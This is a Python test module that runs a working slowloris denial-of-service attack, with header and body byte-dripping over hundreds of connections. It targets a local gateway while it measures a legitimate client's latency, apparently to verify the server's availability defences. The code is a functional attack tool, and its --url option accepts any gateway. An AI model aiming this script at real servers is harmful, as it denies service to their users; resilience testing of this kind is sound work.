"""A slowloris attack on a running gateway, and a legitimate client measured meanwhile.

Half the attacking connections send a request's headers one byte a second; the other half send
complete headers announcing a body, then the body one byte a second. Meanwhile one legitimate
client reads its home timeline on a keep-alive connection, one request after another, and each
answer's latency is recorded. Loopback only; everything stops after ``duration_s``.

Used by ``tests/security/test_api4_availability.py``; run it on its own for the figures in
BENCHMARKS.md (it starts a monolith with the default settings)::

    .venv/bin/python -m tests.security.slowloris --connections 500 --duration 60
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import multiprocessing
import statistics
import time
import uuid
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx

#: How often the attackers drip a byte, in seconds.
DRIP_S = 1.0
#: Seconds the attackers run before the legitimate client starts.
WARM_UP_S = 2.0


@dataclass
class Report:
    """What the attack achieved, and what the legitimate client saw."""

    connections: int
    duration_s: float
    latencies_ms: list[float] = field(default_factory=list)
    #: When each answer was asked for, in seconds since the legitimate client started.
    started_s: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    #: How each attacking connection ended: "408" (answered so), "closed" (cut off), "open" (when the
    #: run stopped), "answered" (anything else), "refused" (could not connect).
    header_outcomes: list[str] = field(default_factory=list)
    body_outcomes: list[str] = field(default_factory=list)

    def percentile(self, q: float) -> float:
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else float("nan")

    def slow(self, over_ms: float) -> list[tuple[float, float]]:
        """(when, how long) of the answers slower than ``over_ms``: clusters show periodic work."""
        return [
            (round(t, 1), round(ms))
            for t, ms in zip(self.started_s, self.latencies_ms, strict=True)
            if ms > over_ms
        ]

    def summary(self) -> str:
        served = len(self.latencies_ms)
        mean = statistics.fmean(self.latencies_ms) if served else float("nan")

        def outcomes(kind: list[str]) -> str:
            return ", ".join(f"{o} {kind.count(o)}" for o in sorted(set(kind)))

        return (
            f"slowloris: {self.connections} connections for {self.duration_s:g} s "
            f"(headers: {outcomes(self.header_outcomes)}; bodies: {outcomes(self.body_outcomes)})\n"
            f"legitimate client: {served} answers, {len(self.errors)} errors; latency ms "
            f"mean {mean:.1f}, p50 {self.percentile(0.5):.1f}, p99 {self.percentile(0.99):.1f}, "
            f"max {max(self.latencies_ms, default=float('nan')):.1f}"
        )


async def attack(base_url: str, token: str, *, connections: int = 500, duration_s: float = 20.0) -> Report:
    """Run the attack and the legitimate client for ``duration_s``; the report of both.

    The attackers run in a process of their own, so that the legitimate client's latency is the
    server's, not that of an event loop shared with 500 dripping connections.
    """
    url = urlsplit(base_url)
    host, port = url.hostname or "127.0.0.1", url.port or 80
    report = Report(connections, duration_s)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context("spawn")) as pool:
        attackers = loop.run_in_executor(pool, _attackers, host, port, connections, WARM_UP_S + duration_s)
        await asyncio.sleep(WARM_UP_S)  # every attacking connection is open and dripping before measuring
        legitimate = asyncio.create_task(_legitimate_client(base_url, token, report, stop))
        await asyncio.sleep(duration_s)
        stop.set()
        await legitimate
        report.header_outcomes, report.body_outcomes = await attackers
    return report


def _attackers(host: str, port: int, connections: int, duration_s: float) -> tuple[list[str], list[str]]:
    """In the attackers' process: hold ``connections`` dripping for ``duration_s``; their outcomes."""

    async def run() -> tuple[list[str], list[str]]:
        header_outcomes: list[str] = []
        body_outcomes: list[str] = []
        stop = asyncio.Event()
        half = connections // 2
        tasks = [
            asyncio.create_task(_drip(host, port, _header_drip(host), header_outcomes, stop))
            for _ in range(half)
        ] + [
            asyncio.create_task(_drip(host, port, _body_drip(host), body_outcomes, stop))
            for _ in range(connections - half)
        ]
        await asyncio.sleep(duration_s)
        stop.set()
        await asyncio.gather(*tasks)
        return header_outcomes, body_outcomes

    return asyncio.run(run())


def _header_drip(host: str) -> tuple[bytes, bytes]:
    """Nothing up front; the headers a byte at a time (never finished within the run)."""
    headers = f"GET /api/timeline/home HTTP/1.1\r\nHost: {host}\r\nX-Padding: {'a' * 200}\r\n\r\n"
    return b"", headers.encode()


def _body_drip(host: str) -> tuple[bytes, bytes]:
    """Complete headers announcing a 1,000-byte body; the body a byte at a time."""
    head = (
        f"POST /api/auth/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        "Content-Length: 1000\r\n\r\n"
    )
    return head.encode(), b"x" * 1000


async def _drip(
    host: str, port: int, parts: tuple[bytes, bytes], outcomes: list[str], stop: asyncio.Event
) -> None:
    """Hold one attacking connection open at all times: when the server cuts it off, reconnect."""
    while not stop.is_set():
        outcomes.append(await _drip_once(host, port, parts, stop))
        await asyncio.sleep(0.1)  # a refused connection must not turn into a busy loop


async def _drip_once(host: str, port: int, parts: tuple[bytes, bytes], stop: asyncio.Event) -> str:
    """One connection: the head at once, then a byte a second; how it ended."""
    head, dripped = parts
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        return "refused"
    answer = asyncio.create_task(reader.read(64))
    stopped = asyncio.create_task(stop.wait())
    outcome = "open"
    try:
        writer.write(head)
        for byte in dripped:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.wait({answer, stopped}, timeout=DRIP_S, return_when=asyncio.FIRST_COMPLETED)
            if answer.done():
                data = answer.result()
                return "408" if data.startswith(b"HTTP/1.1 408") else "answered" if data else "closed"
            if stop.is_set():
                return "open"
    except OSError:
        outcome = "closed"
    finally:
        answer.cancel()
        stopped.cancel()
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()
    return outcome


async def _legitimate_client(base_url: str, token: str, report: Report, stop: asyncio.Event) -> None:
    headers = {"authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(base_url=base_url, headers=headers, timeout=5.0) as client:
        began = time.perf_counter()
        while not stop.is_set():
            started = time.perf_counter()
            try:
                r = await client.get("/api/timeline/home")
            except httpx.HTTPError as exc:
                report.errors.append(f"{type(exc).__name__}: {exc}")
            else:
                if r.status_code == 200:
                    report.latencies_ms.append((time.perf_counter() - started) * 1000)
                    report.started_s.append(started - began)
                else:
                    report.errors.append(f"{r.status_code} {r.text[:200]}")
            await asyncio.sleep(0.05)


def sign_up(base_url: str) -> str:
    """Register a fresh account and log in; its access token."""
    handle = f"victim{uuid.uuid4().hex[:8]}"
    password = "correct horse battery"
    with httpx.Client(base_url=base_url, timeout=30.0) as client:
        r = client.post(
            "/api/auth/register",
            json={"handle": handle, "email": f"{handle}@example.org", "password": password},
        )
        r.raise_for_status()
        r = client.post("/api/auth/login", json={"login": handle, "password": password})
        r.raise_for_status()
        return str(r.json()["access_token"])


def main() -> None:
    from tests.conftest import MONOLITH
    from twitterclone_bench.server import Monolith

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "--url", help="Attack this gateway (default: start a monolith with default settings)."
    )
    parser.add_argument("--connections", type=int, default=500)
    parser.add_argument("--duration", type=float, default=60.0)
    parser.add_argument(
        "--slow-ms", type=float, help="Also list the answers slower than this: (second of the run, ms)."
    )
    args = parser.parse_args()
    if args.url:
        print(
            asyncio.run(
                attack(args.url, sign_up(args.url), connections=args.connections, duration_s=args.duration)
            ).summary()
        )
        return
    with Monolith(str(MONOLITH)) as server:
        token = sign_up(server.url)
        report = asyncio.run(
            attack(server.url, token, connections=args.connections, duration_s=args.duration)
        )
    print(report.summary())
    if args.slow_ms is not None:
        print(f"answers over {args.slow_ms:g} ms (s, ms): {report.slow(args.slow_ms)}")


if __name__ == "__main__":
    main()
